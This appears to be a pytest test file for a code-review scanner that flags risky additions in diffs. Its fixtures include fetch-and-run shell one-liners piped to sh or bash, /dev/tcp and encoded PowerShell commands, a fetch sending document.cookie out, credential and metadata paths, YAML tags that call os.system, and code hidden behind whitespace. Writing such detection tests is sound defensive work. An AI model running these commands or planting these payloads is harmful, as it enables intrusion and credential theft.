"""Lines that tell by themselves: calls, secrets, commands, lengths."""

from __future__ import annotations

import time

import pytest

from tests.comparators.analysis.findings.cases import lines

C = "int f(void) { return 0; }\n"
REPORTED = {
    "a shell": ("p/_c.c", 'int r = system("id");', "executes: system"),
    "a library": (
        "p/_c.cpp",
        "void *h = dlopen(name, 1); f = ::popen (x, y);",
        "executes: dlopen, popen",
    ),
    "a quote in quotes": (
        "p/_c.c",
        'char q = \'"\'; system("id");',
        "executes: system",
    ),
    "a socket": ("p/_c.c", "fd = socket(AF_INET, 1, 0);", "connects: socket"),
    "Cython": ("p/_c.pyx", "    system(b'id')", "executes: system"),
    "Rust": (
        "src/lib.rs",
        'std::process::Command::new("sh").spawn();',
        "executes: process::Command",
    ),
    "a connection of Rust": (
        "src/lib.rs",
        "let s = TcpStream::connect(a)?;",
        "connects: TcpStream",
    ),
    "JavaScript": (
        "p/static/a.js",
        "require('child_process').exec('id')",
        "executes: child_process",
    ),
    "a request of JavaScript": (
        "p/static/a.js",
        "fetch('https://a.invalid/' + document.cookie)",
        "connects: fetch",
    ),
    "run when it is loaded": (
        "p/_c.c",
        "static __attribute__ (( __constructor__ )) void g(void) {}",
        "executes: __constructor",
    ),
    "a template of Python": (
        "p/t.py.in",
        "subprocess.run(['id'])",
        "executes: subprocess.run",
    ),
    "an included file": ("p/m.pxi", "os.popen('id')", "executes: os.popen"),
}
SILENT = {
    "a comment": ("p/_c.c", "// system(x)"),
    "a line of a comment": ("p/_c.c", " * calls system(x)"),
    "a string": ("p/_c.c", 'puts("system(x)");'),
    "another name": ("p/_c.c", "file_system(x); a.system(x); a->socket(y);"),
    "no call": ("p/_c.c", "int system;"),
    "a method": ("p/a.js", "view.fetch(x); $eval(y)"),
    "another language": ("p/a.go", "system(x)"),
}


@pytest.mark.parametrize(
    ("path", "new", "expected"), REPORTED.values(), ids=REPORTED
)
def test_a_call(path: str, new: str, expected: str) -> None:
    old, both = C.encode(), (C + new + "\n").encode()
    found = [f"review new-capability {path}:2 {expected}"]
    assert lines({path: old}, {path: both}) == found
    assert lines({}, {path: both}) == found
    assert lines({path: both}, {path: both + new.encode() + b" \n"}) == []


@pytest.mark.parametrize(("path", "new"), SILENT.values(), ids=SILENT)
def test_no_call(path: str, new: str) -> None:
    assert lines({}, {path: new.encode()}) == []


def test_where_it_lies_and_when_it_runs() -> None:
    assert lines({}, {"tests/a.c": b"system(x);"}) == [
        "note new-capability tests/a.c:1 executes: system"
    ]
    assert lines({}, {"build.rs": b"Command::new(x)"}) == [
        "review runs-at-build build.rs:1 executes: Command::new"
    ]
    assert lines({}, {"package.json": b'"postinstall": "x"'}) == [
        "review runs-at-build package.json:1 executes: postinstall"
    ]
    assert lines({}, {"p/m.pyi": b"os.system('id')"}) == [
        "review new-capability p/m.pyi:1 executes: os.system"
    ]


def test_a_comment_of_the_old_file_hides_nothing() -> None:
    assert lines({"a.c": b"// system(x)"}, {"a.c": b"system(x);"}) == [
        "review new-capability a.c:1 executes: system"
    ]


def test_python_that_cannot_be_parsed() -> None:
    old, new = b"print 'a'\n", b"print 'a'\nimport os\nos.system('x')\n"
    assert lines({"m.py": old}, {"m.py": new}) == [
        "review new-capability m.py:3 executes: os.system"
    ]
    assert lines({"m.py": new}, {"m.py": new + b"print 'b'\n"}) == []


SECRETS = [
    ("open(os.path.expanduser('~/.ssh/id_rsa'))", ".ssh/id_"),
    ("p = home / '.aws/credentials'", ".aws/credentials"),
    ("x = 'Login Data'", "Login Data"),
    (
        "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
        "CurrentVersion\\Run",
    ),
    ("f = '.bashrc'", ".bashrc"),
    ("x = np.load(p, allow_pickle=True)", "allow_pickle=True"),
    ("requests.get('http://169.254.169.254/latest')", "169.254.169.254"),
]
COMMANDS = [
    "curl -s https://a.invalid/x | sh",
    "wget -qO- https://a.invalid/x | sudo bash",
    "bash <(curl -s https://a.invalid/x)",
    "echo cHJpbnQ= | base64 -d > x",
    "xz -dc tests/x.xz | /bin/sh",
    "exec 3<>/dev/tcp/a.invalid/80",
    "powershell -enc SQBFAFgA",
]
ORDINARY = [
    "curl -O https://a.example/x.tar.gz",
    "tar xzf x.tar.gz",
    "sh ./configure",
    "profile = 1",
]


@pytest.mark.parametrize(("new", "text"), SECRETS)
def test_a_path_of_secrets(new: str, text: str) -> None:
    tree = {"p/m.py": new.encode()}
    found = lines({}, tree, "new-capability")
    assert f"review new-capability p/m.py:1 names {text}" in found
    assert lines(tree, tree, "new-capability") == []


@pytest.mark.parametrize("new", COMMANDS)
def test_a_command_that_runs_what_it_fetched(new: str) -> None:
    tree = {"build.sh": f"#!/bin/sh\n{new}\n".encode()}
    [found] = lines({}, tree, "runs-at-build")
    assert found.startswith("alert runs-at-build build.sh:2 ")
    assert lines(tree, tree, "runs-at-build") == []


@pytest.mark.parametrize("new", ORDINARY)
def test_ordinary_lines_are_silent(new: str) -> None:
    assert lines({}, {"build.sh": new.encode()}) == []


@pytest.mark.parametrize(
    ("line", "tag"),
    [
        (
            "a: !!python/object/apply:os.system [x]",
            "!!python/object/apply:os.system",
        ),
        ("a: !!pyth%6Fn/name:os.system", "!!pyth%6F"),
        ("%TAG !e! tag:yaml.org,2002:py", "%TAG !e! tag:yaml.org,2002:py"),
        ("a: !<tag:yaml.org,2002:python/x>", "yaml.org,2002:python"),
        ("a: !!python", ""),
        ("a: !Ref b", ""),
        ("a: 100%", ""),
    ],
)
def test_a_tag_of_yaml(line: str, tag: str) -> None:
    new = {"p/a.yaml": line.encode()}
    found = [
        f"review new-capability p/a.yaml:1 {tag} has a reader of YAML call "
        "Python"
    ]
    assert lines({}, new, "new-capability") == found * bool(tag)
    assert lines(new, new, "new-capability") == []
    assert lines({}, {"a.rst": new["p/a.yaml"]}) == []


AT_1 = "x = 1\n"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            AT_1,
            AT_1 + "\t" * 200 + "; f()\n",
            ["m.py:2 200 blanks before ; f()"],
        ),
        (AT_1, f"x = 1;{' ' * 100}f()", ["m.py:1 100 blanks before f()"]),
        (
            AT_1,
            AT_1 + "\n" * 300 + "f()",
            ["m.py:302 300 blank lines before f()"],
        ),
        (AT_1, "\u3000" * 200 + "f()", ["m.py:1 200 blanks before f()"]),
        (AT_1, f"x = 1;{' ' * 99}f()", []),
        (AT_1, AT_1 + "\n" * 99 + "f()", []),
        (AT_1, AT_1 + "\n" * 300, []),
        (f"x{' ' * 300}= 1\n", f"x{' ' * 300}= 1\ny = 2\n", []),
    ],
    ids=[
        "tabs",
        "blanks",
        "lines",
        "wide",
        "fewer",
        "few lines",
        "at the end",
        "old",
    ],
)
def test_code_behind_blanks(old: str, new: str, expected: list[str]) -> None:
    trees = [{"m.py": text.encode()} for text in (old, new)]
    assert lines(*trees, "long-line") == [
        f"alert long-line {each}" for each in expected
    ]
    trees = [{"m.txt": text.encode()} for text in (old, new)]
    assert lines(*trees, "long-line") == []


def test_long_lines_take_no_time() -> None:
    start = time.process_time()
    for word in (b"curl ", b"base64 ", b"powershell ", b"Google", b" "):
        lines({}, {"build.sh": word * 20_000})
    for word in (b'\\"', b"/*", b"'"):
        lines({}, {"a.c": (b"system(x);" + word * 5_000 + b"\n") * 20})
    assert time.process_time() - start < 5


def test_a_build_file_that_names_a_start_file() -> None:
    head = b"[tool.hatch.build.targets.wheel.force-include]\n"
    new = head + b'"notes.txt" = "evil.pth"\n'
    old = {"pyproject.toml": head}
    assert lines(old, {"pyproject.toml": new}, "runs-at-start") == [
        "review runs-at-start pyproject.toml:2 names evil.pth"
    ]
    assert lines({"docs/a.cfg": head}, {"docs/a.cfg": new}) == []
